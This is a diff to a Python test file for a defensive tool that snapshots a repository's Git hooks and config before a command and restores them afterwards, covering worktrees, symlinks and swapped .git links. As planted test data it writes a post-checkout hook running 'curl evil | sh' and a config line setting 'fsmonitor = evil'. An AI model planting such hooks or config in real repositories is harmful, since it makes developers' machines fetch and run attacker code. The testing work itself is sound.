@@ -1,5 +1,6 @@
-"""Git's control files, compared around a command: read and put back without following a
-symlink anywhere, and never put back from a copy that was not kept."""
+"""Git's control files, compared around a command: found as git finds them, read and put back
+without following a symlink inside the git folder, never in another folder than the one read
+before, and never put back from a copy that was not kept."""
 
 from __future__ import annotations
 
@@ -16,6 +17,11 @@ def repo(root: Path) -> Path:
     return root
 
 
+def git(cwd: Path, *args: str) -> None:
+    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", *args], cwd=cwd,
+                   check=True, capture_output=True)
+
+
 def test_a_hook_changed_added_and_removed_is_put_back_as_it_was(tmp_path: Path) -> None:
     root = repo(tmp_path / "ws")
     hooks = root / ".git" / "hooks"
@@ -26,12 +32,10 @@ def test_a_hook_changed_added_and_removed_is_put_back_as_it_was(tmp_path: Path) 
     (hooks / "pre-push").write_text("#!/bin/sh\necho theirs\n")
     (hooks / "post-merge").write_text("#!/bin/sh\n")
     (root / ".git" / "config").unlink()
-    now = git_control.snapshot(str(root))
-    assert now is not None
-    found = git_control.changes(before, now)
+    found = git_control.changes_since(before)
     assert found == [(".git/config", "deleted"), (".git/hooks/post-merge", "added"),
                      (".git/hooks/pre-push", "modified")]
-    undone, left = git_control.put_back(str(root), before, [p for p, _ in found], tmp_path / "kept")
+    undone, left = git_control.put_back(before, [p for p, _ in found], tmp_path / "kept")
     assert sorted(undone) == [p for p, _ in found] and left == []
     assert (hooks / "pre-push").read_text() == "#!/bin/sh\necho mine\n"
     assert os.stat(hooks / "pre-push").st_mode & 0o777 == 0o755
@@ -49,10 +53,9 @@ def test_a_symlinked_hooks_folder_is_never_followed(tmp_path: Path) -> None:
     (outside / "pre-commit").write_text("someone else's\n")
     shutil.rmtree(root / ".git" / "hooks")
     (root / ".git" / "hooks").symlink_to(outside)
-    now = git_control.snapshot(str(root))
+    now = git_control.read_again(before)
     assert now is not None and not any(p.startswith(".git/hooks/") for p in now)
-    undone, left = git_control.put_back(str(root), before, [".git/hooks/pre-commit"],
-                                        tmp_path / "kept")
+    undone, left = git_control.put_back(before, [".git/hooks/pre-commit"], tmp_path / "kept")
     assert undone == [] and [p for p, _ in left] == [".git/hooks/pre-commit"]
     assert (outside / "pre-commit").read_text() == "someone else's\n"
 
@@ -64,15 +67,66 @@ def test_a_config_too_big_to_keep_is_named_not_put_back(tmp_path: Path) -> None:
     before = git_control.snapshot(str(root))
     assert before is not None
     config.write_text("[core]\n\tfsmonitor = evil\n")
-    now = git_control.snapshot(str(root))
-    assert now is not None
-    assert git_control.changes(before, now) == [(".git/config", "modified")]
-    undone, left = git_control.put_back(str(root), before, [".git/config"], tmp_path / "kept")
+    assert git_control.changes_since(before) == [(".git/config", "modified")]
+    undone, left = git_control.put_back(before, [".git/config"], tmp_path / "kept")
     assert undone == [] and "not kept" in left[0][1]
     assert "fsmonitor" in config.read_text()
 
 
 def test_no_repository_no_snapshot(tmp_path: Path) -> None:
     (tmp_path / "ws").mkdir()
-    (tmp_path / "ws" / ".git").write_text("gitdir: /elsewhere\n")  # a worktree's link file
     assert git_control.snapshot(str(tmp_path / "ws")) is None
+    (tmp_path / "ws" / ".git").write_text("gitdir: ../nowhere\n")  # names no git folder
+    assert git_control.snapshot(str(tmp_path / "ws")) is None
+
+
+def test_a_worktrees_hooks_are_read_where_git_runs_them(tmp_path: Path) -> None:
+    """A linked worktree's `.git` is a file; its hooks and config are the main repository's."""
+    main = repo(tmp_path / "main")
+    git(main, "commit", "-q", "--allow-empty", "-m", "first")
+    git(main, "worktree", "add", "-q", str(tmp_path / "ws"))
+    before = git_control.snapshot(str(tmp_path / "ws"))
+    assert before is not None and before.folder == str((main / ".git").resolve())
+    (main / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
+    assert git_control.changes_since(before) == [(".git/hooks/post-checkout", "added")]
+    undone, _ = git_control.put_back(before, [".git/hooks/post-checkout"], tmp_path / "kept")
+    assert undone == [".git/hooks/post-checkout"]
+    assert not (main / ".git" / "hooks" / "post-checkout").exists()
+
+
+def test_a_workspace_inside_a_repository_has_its_git_folder_above(tmp_path: Path) -> None:
+    root = repo(tmp_path / "mono")
+    (root / "services" / "api").mkdir(parents=True)
+    before = git_control.snapshot(str(root / "services" / "api"))
+    assert before is not None and before.folder == str((root / ".git").resolve())
+
+
+def test_a_link_swapped_by_the_command_sends_nothing_elsewhere(tmp_path: Path) -> None:
+    """The command points the workspace's `.git` file at a git folder of its making: the reads
+    after it, and the put-back, stay in the folder read before."""
+    main = repo(tmp_path / "main")
+    git(main, "commit", "-q", "--allow-empty", "-m", "first")
+    git(main, "worktree", "add", "-q", str(tmp_path / "ws"))
+    before = git_control.snapshot(str(tmp_path / "ws"))
+    assert before is not None
+    decoy = repo(tmp_path / "decoy")
+    (decoy / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
+    (tmp_path / "ws" / ".git").write_text(f"gitdir: {decoy / '.git'}\n")
+    (main / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\necho planted\n")
+    assert git_control.changes_since(before) == [(".git/hooks/pre-commit", "added")]
+    git_control.put_back(before, [".git/hooks/pre-commit"], tmp_path / "kept")
+    assert not (main / ".git" / "hooks" / "pre-commit").exists()
+    assert (decoy / ".git" / "hooks" / "pre-commit").exists()
+
+
+def test_a_git_folder_replaced_by_the_command_is_named_not_written(tmp_path: Path) -> None:
+    root = repo(tmp_path / "ws")
+    before = git_control.snapshot(str(root))
+    assert before is not None and ".git/config" in before.files
+    (root / ".git").rename(root / ".git-old")
+    repo(root)
+    (root / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
+    assert git_control.changes_since(before) == [(".git", "replaced")]
+    undone, left = git_control.put_back(before, [".git"], tmp_path / "kept")
+    assert undone == [] and left[0][0] == ".git" and "moved or replaced" in left[0][1]
+    assert (root / ".git" / "hooks" / "pre-commit").exists()
